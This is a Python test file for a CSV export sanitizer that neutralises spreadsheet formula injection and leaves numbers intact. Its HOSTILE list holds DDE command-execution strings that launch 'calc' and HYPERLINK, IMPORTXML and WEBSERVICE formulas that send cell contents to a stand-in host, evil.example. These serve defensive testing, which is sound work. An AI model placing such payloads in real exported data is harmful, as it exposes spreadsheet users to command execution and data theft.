"""Cells of CSV: twenty that a spreadsheet would compute, and twenty numbers that it should."""

import csv
import io

import pytest

from tracker.views.formats import cell

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1＋1",
    "＠SUM(1)",
]
NUMBERS = [
    *("-1 -0.5 -.5 -1. -1e5 -1E-5 -12.25e+3 -0 -999999999999 -3.14159".split()),
    *("+1 +0.5 +.5 +1e5 0 1 0.5 1e-300 12345678901234567890 -1e308".split()),
]


@pytest.mark.parametrize("words", HOSTILE)
def test_a_cell_that_would_be_computed_is_text(words):
    assert cell(words) == f"'{words}"


def test_a_number_stays_as_it_was_written():
    assert [cell(number) for number in NUMBERS] == NUMBERS
    assert [cell(number) for number in (-1, -0.5, 0, 7)] == [-1, -0.5, 0, 7]
    assert (len(HOSTILE), len(NUMBERS)) == (20, 20)


def test_quotes_and_line_breaks_come_back_as_they_went_in():
    sink = io.StringIO(newline="")
    rows = [['a "quoted" word', "two\nlines", "comma, here", "semicolon; here"], [cell(words) for words in HOSTILE[:4]]]
    csv.writer(sink, lineterminator="\n").writerows(rows)
    assert list(csv.reader(io.StringIO(sink.getvalue(), newline=""))) == rows
